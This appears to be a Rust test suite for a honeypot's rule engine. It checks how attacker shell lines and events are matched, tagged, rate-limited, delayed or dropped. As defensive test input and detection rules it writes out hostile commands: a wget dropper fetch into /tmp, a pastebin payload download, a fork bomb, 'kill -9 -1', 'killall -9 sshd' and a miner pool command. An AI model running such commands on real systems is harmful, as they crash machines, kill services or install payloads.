use std::collections::BTreeSet;
use std::net::IpAddr;
use std::time::Duration;

use chrono::{DateTime, TimeDelta, Utc};
use proptest::prelude::*;

use super::*;
use crate::events::Severity;

fn at(secs: i64) -> DateTime<Utc> {
    DateTime::from_timestamp(1_767_000_000 + secs, 0).unwrap()
}

fn ip(text: &str) -> IpAddr {
    text.parse().unwrap()
}

/// One session's view: its address, credential, tags, buckets and RNG.
struct Probe {
    rules: Rules,
    ip: IpAddr,
    credential: String,
    tags: BTreeSet<String>,
    buckets: Buckets,
    rng: SessionRng,
}

impl Probe {
    fn new(text: &str) -> Probe {
        Probe {
            rules: Rules::parse("test.toml", text).unwrap(),
            ip: ip("203.0.113.7"),
            credential: "root:123456".into(),
            tags: BTreeSet::new(),
            buckets: Buckets::new(),
            rng: SessionRng::from_text("session-1"),
        }
    }

    fn judge(&mut self, what: Occurrence<'_>, now: DateTime<Utc>) -> Verdict {
        let who = Subject {
            ip: self.ip,
            credential: &self.credential,
            tags: &self.tags,
        };
        let verdict = self
            .rules
            .evaluate(what, &who, now, &mut self.buckets, &mut self.rng);
        self.tags.extend(verdict.tags.iter().cloned());
        verdict
    }

    fn line(&mut self, line: &str) -> Verdict {
        self.judge(Occurrence::Line(line), at(0))
    }
}

fn rules_of(verdict: &Verdict) -> Vec<&str> {
    verdict.fired.iter().map(|f| f.rule.as_str()).collect()
}

#[test]
fn regex_contains_and_program_matchers_must_all_hold() {
    let mut p = Probe::new(
        r#"
[[rule]]
name = "wget-tmp"
regex = 'wget\s+http'
contains = "/tmp"
actions = [{ tag = "dropper" }]

[[rule]]
name = "kill"
programs = ["pkill", "killall"]
actions = [{ alert = "critical" }]
"#,
    );
    assert!(p.line("wget http://x/y -O /root/y").is_empty());
    assert!(p.line("cd /tmp").is_empty());
    let v = p.line("cd /tmp; wget http://198.51.100.9/x");
    assert_eq!(rules_of(&v), ["wget-tmp"]);
    assert_eq!(v.tags, ["dropper"]);
    // The program is what the line runs, not a word in it.
    assert!(p.line("echo pkill").is_empty());
    let v = p.line("ps aux | grep x; /usr/bin/pkill -9 xmrig");
    assert_eq!(v.alerts, [("kill".to_owned(), Severity::Critical)]);
    assert_eq!(v.fired[0].action, "alert critical");
    assert!(!p.line("sudo killall minerd").is_empty());
}

#[test]
fn actions_add_up_across_rules_and_the_first_canned_answer_wins() {
    let mut p = Probe::new(
        r#"
[[rule]]
name = "a"
contains = "x"
description = "saw an x"
actions = [{ latency = { ms = 200 } }, { canned = { output = "first\n", status = 3 } }, { tarpit = { bytes_per_second = 50 } }]

[[rule]]
name = "b"
contains = "x"
actions = [{ latency = { ms = 300 } }, { canned = { output = "second\n" } }, { tarpit = { bytes_per_second = 20 } }, "drop"]
"#,
    );
    let v = p.line("xyz");
    assert_eq!(v.latency, Duration::from_millis(500));
    assert_eq!(v.tarpit, Some(20));
    let canned = v.canned.clone().unwrap();
    assert_eq!(
        (canned.rule.as_str(), canned.output.as_str(), canned.status),
        ("a", "first\n", 3)
    );
    assert!(v.drop);
    let actions: Vec<_> = v.fired.iter().map(|f| f.action.as_str()).collect();
    assert_eq!(
        actions,
        [
            "latency 200ms",
            "canned output",
            "tarpit 50 B/s",
            "latency 300ms",
            "tarpit 20 B/s",
            "drop"
        ]
    );
    assert_eq!(v.fired[0].detail, "saw an x");
    assert_eq!(v.fired[3].detail, "matched a line");
}

#[test]
fn jitter_stays_in_bounds_and_is_the_same_for_the_same_session() {
    let text = r#"
[[rule]]
name = "slow"
contains = "ls"
actions = [{ latency = { min_ms = 100, max_ms = 900 } }]
"#;
    let draws = |seed: &str| {
        let mut p = Probe::new(text);
        p.rng = SessionRng::from_text(seed);
        (0..50).map(|_| p.line("ls").latency).collect::<Vec<_>>()
    };
    let one = draws("aaaa");
    assert_eq!(one, draws("aaaa"));
    assert_ne!(one, draws("bbbb"));
    assert!(one.iter().all(|d| (100..=900).contains(&d.as_millis())));
    let distinct: BTreeSet<_> = one.iter().collect();
    assert!(distinct.len() > 10, "{distinct:?}");
}

#[test]
fn a_tag_is_added_once_and_tagged_rules_follow_it() {
    let mut p = Probe::new(
        r#"
[[rule]]
name = "mark"
contains = "uname"
actions = [{ tag = "recon" }]

[[rule]]
name = "after-recon"
tagged = "recon"
contains = "wget"
actions = [{ latency = { ms = 1000 } }]
"#,
    );
    assert!(p.line("wget http://x").is_empty());
    assert_eq!(rules_of(&p.line("uname -a")), ["mark"]);
    // Already tagged: nothing new to report.
    assert!(p.line("uname -a").is_empty());
    assert_eq!(p.line("wget http://x").latency, Duration::from_secs(1));
}

#[test]
fn a_rate_fires_once_its_bucket_is_empty_and_refills_with_time() {
    let mut p = Probe::new(
        r#"
[[rule]]
name = "flood"
rate = { per = "ip", burst = 3, per_minute = 6 }
actions = [{ canned = { output = "slow down\n" } }]
"#,
    );
    for _ in 0..3 {
        assert!(p.judge(Occurrence::Line("id"), at(0)).is_empty());
    }
    let v = p.judge(Occurrence::Line("id"), at(1));
    assert_eq!(v.canned.unwrap().output, "slow down\n");
    assert!(
        v.fired[0]
            .detail
            .contains("over 3 at once and 6 a minute from this address")
    );
    // Six a minute: one token every ten seconds, counted from the empty bucket.
    assert!(!p.judge(Occurrence::Line("id"), at(9)).is_empty());
    assert!(p.judge(Occurrence::Line("id"), at(10)).is_empty());
    assert!(!p.judge(Occurrence::Line("id"), at(10)).is_empty());
    // Another address has its own bucket.
    p.ip = ip("198.51.100.1");
    assert!(p.judge(Occurrence::Line("id"), at(10)).is_empty());
    // A long pause refills the bucket, but never beyond the burst.
    p.ip = ip("203.0.113.7");
    for _ in 0..3 {
        assert!(p.judge(Occurrence::Line("id"), at(3600)).is_empty());
    }
    assert!(!p.judge(Occurrence::Line("id"), at(3600)).is_empty());
}

#[test]
fn a_credential_rate_counts_logins_of_that_credential_from_any_address() {
    let mut p = Probe::new(
        r#"
[[rule]]
name = "shared"
on = "login_succeeded"
regex = '^root:'
rate = { per = "credential", burst = 2, per_minute = 0 }
actions = [{ tag = "botnet" }]
"#,
    );
    let login = |p: &mut Probe, addr: &str| {
        p.ip = ip(addr);
        p.tags.clear();
        let credential = p.credential.clone();
        p.judge(
            Occurrence::Event(Trigger::LoginSucceeded, &credential),
            at(0),
        )
    };
    assert!(login(&mut p, "192.0.2.1").is_empty());
    assert!(login(&mut p, "192.0.2.2").is_empty());
    assert_eq!(login(&mut p, "192.0.2.3").tags, ["botnet"]);
    p.credential = "admin:admin".into();
    assert!(login(&mut p, "192.0.2.4").is_empty());
    // A line is not a login.
    assert!(p.line("root:123456").is_empty());
}

#[test]
fn event_rules_match_their_trigger_and_subject() {
    let mut p = Probe::new(
        r#"
[[rule]]
name = "pastebin"
on = "download"
contains = "pastebin.com"
actions = [{ alert = "info" }, "drop"]
"#,
    );
    assert!(
        p.judge(
            Occurrence::Event(Trigger::Download, "http://198.51.100.9/x"),
            at(0)
        )
        .is_empty()
    );
    assert!(
        p.judge(
            Occurrence::Event(Trigger::HoneytokenRead, "pastebin.com"),
            at(0)
        )
        .is_empty()
    );
    assert!(p.line("wget https://pastebin.com/raw/x").is_empty());
    // A "line event" is a line: it meets the line rules, not every rule of `on = "line"`.
    assert!(
        p.judge(
            Occurrence::Event(Trigger::Line, "https://pastebin.com/raw/x"),
            at(0)
        )
        .is_empty()
    );
    let v = p.judge(
        Occurrence::Event(Trigger::Download, "https://pastebin.com/raw/x"),
        at(0),
    );
    assert!(v.drop);
    assert_eq!(v.fired[0].detail, "matched a download");
}

#[test]
fn buckets_survive_a_round_trip_through_json() {
    let mut p = Probe::new(
        r#"
[[rule]]
name = "flood"
rate = { per = "ip", burst = 2, per_minute = 1 }
actions = ["drop"]
"#,
    );
    p.line("a");
    p.line("b");
    assert!(p.buckets.take_dirty());
    assert!(!p.buckets.take_dirty());
    let saved = p.buckets.to_json();
    // A restarted node: the same state, so the next line fires at once.
    let mut restarted = Probe::new(
        r#"
[[rule]]
name = "flood"
rate = { per = "ip", burst = 2, per_minute = 1 }
actions = ["drop"]
"#,
    );
    restarted.buckets = Buckets::from_json(&saved).unwrap();
    assert_eq!(restarted.buckets, Buckets::from_json(&saved).unwrap());
    assert!(restarted.judge(Occurrence::Line("c"), at(5)).drop);
    // Without it, the bucket would have been full.
    assert!(
        !p.rules
            .evaluate(
                Occurrence::Line("c"),
                &Subject {
                    ip: p.ip,
                    credential: "",
                    tags: &BTreeSet::new()
                },
                at(5),
                &mut Buckets::new(),
                &mut SessionRng::new(1),
            )
            .drop
    );
}

#[test]
fn damaged_bucket_files_are_refused() {
    for bad in [
        &b""[..],
        b"{",
        b"[]",
        br#"{"version":9,"buckets":{}}"#,
        br#"{"version":1,"buckets":{"r|ip|1.2.3.4":{"tokens":-1.0,"at_ms":0,"full_ms":0}}}"#,
    ] {
        assert!(
            Buckets::from_json(bad).is_err(),
            "{}",
            String::from_utf8_lossy(bad)
        );
    }
    assert!(
        Buckets::from_json(&Buckets::new().to_json())
            .unwrap()
            .is_empty()
    );
}

#[test]
fn the_bucket_map_is_bounded() {
    let mut buckets = Buckets::new();
    let rate = Rate {
        per: Per::Ip,
        burst: 5,
        per_minute: 0,
    };
    for n in 0..(MAX_BUCKETS as u32 + 10) {
        let addr = IpAddr::from(n.to_be_bytes());
        buckets.take(
            "r",
            rate,
            RateKey::Ip(addr),
            at(0) + TimeDelta::milliseconds(n.into()),
        );
    }
    assert!(buckets.len() <= MAX_BUCKETS);
}

fn error_of(text: &str) -> String {
    Rules::parse("rules.toml", text).unwrap_err().to_string()
}

#[test]
fn bad_rules_files_name_the_file_the_rule_and_the_reason() {
    let cases = [
        (
            "[[rule]]\nname = \"x\"\nregexp = \"a\"\nactions = [\"drop\"]\n",
            "rules.toml: rule \"x\": unknown field `regexp`",
        ),
        (
            "[[rule]]\nname = \"bad-re\"\nregex = \"(a\"\nactions = [\"drop\"]\n",
            "rules.toml: rule \"bad-re\": bad regex",
        ),
        (
            "[[rule]]\nname = \"a\"\ncontains = \"x\"\nactions = [\"drop\"]\n[[rule]]\nname = \"a\"\ncontains = \"y\"\nactions = [\"drop\"]\n",
            "rule \"a\": a rule of this name comes earlier",
        ),
        (
            "[[rule]]\nname = \"all\"\nactions = [\"drop\"]\n",
            "rule \"all\": matches every line",
        ),
        (
            "[[rule]]\nname = \"ev\"\non = \"download\"\nactions = [{ canned = { output = \"x\" } }]\n",
            "rule \"ev\": canned output answers a line",
        ),
        (
            "[[rule]]\nname = \"lat\"\ncontains = \"x\"\nactions = [{ latency = { min_ms = 9, max_ms = 1 } }]\n",
            "rule \"lat\": latency: `min_ms` exceeds `max_ms`",
        ),
        (
            "[[rule]]\nname = \"r\"\nrate = { per = \"ip\", burst = 0, per_minute = 1 }\nactions = [\"drop\"]\n",
            "rule \"r\": rate: `burst` must be at least 1",
        ),
        (
            "[[rule]]\nname = \"sev\"\ncontains = \"x\"\nactions = [{ alert = \"loud\" }]\n",
            "rule \"sev\": unknown variant `loud`",
        ),
        (
            "[[rule]]\ncontains = \"x\"\nactions = [\"drop\"]\n",
            "rule \"#1\": missing field `name`",
        ),
        ("[rules]\n", "rules.toml: unknown key `rules`"),
        ("[[rule]\n", "rules.toml: "),
    ];
    for (text, expected) in cases {
        let err = error_of(text);
        assert!(err.contains(expected), "{err:?} lacks {expected:?}");
    }
}

#[test]
fn the_builtin_rules_load_and_act_as_documented() {
    let rules = Rules::builtin().unwrap();
    assert!(rules.len() >= 5);
    let mut p = Probe::new(DEFAULT_RULES);
    let v = p.line(":(){ :|:& };:");
    assert!(v.drop);
    assert!(v.canned.unwrap().output.contains("fork: retry"));
    assert!(p.line("kill -9 -1").drop);
    assert!(p.line("killall -9 sshd").drop);
    assert!(!p.line("kill -9 1234").drop);
    assert!(!p.line("ls -la /tmp").drop);
    assert_eq!(p.line("./x -o stratum+tcp://pool:3333").alerts.len(), 1);
}

proptest! {
    #[test]
    fn arbitrary_lines_and_subjects_never_panic(
        line in "\\PC{0,300}",
        bytes in proptest::collection::vec(any::<u8>(), 0..300),
        secs in -1_000_000i64..1_000_000,
    ) {
        let mut p = Probe::new(DEFAULT_RULES);
        let lossy = String::from_utf8_lossy(&bytes).into_owned();
        for text in [line.as_str(), lossy.as_str()] {
            p.judge(Occurrence::Line(text), at(secs));
            for trigger in [Trigger::Download, Trigger::LoginSucceeded, Trigger::HoneytokenRead] {
                p.judge(Occurrence::Event(trigger, text), at(secs));
            }
            p.credential = text.to_owned();
        }
        // Arbitrary bytes as a saved state: an error or a state, never a panic.
        Buckets::from_json(&bytes).ok();
    }
}
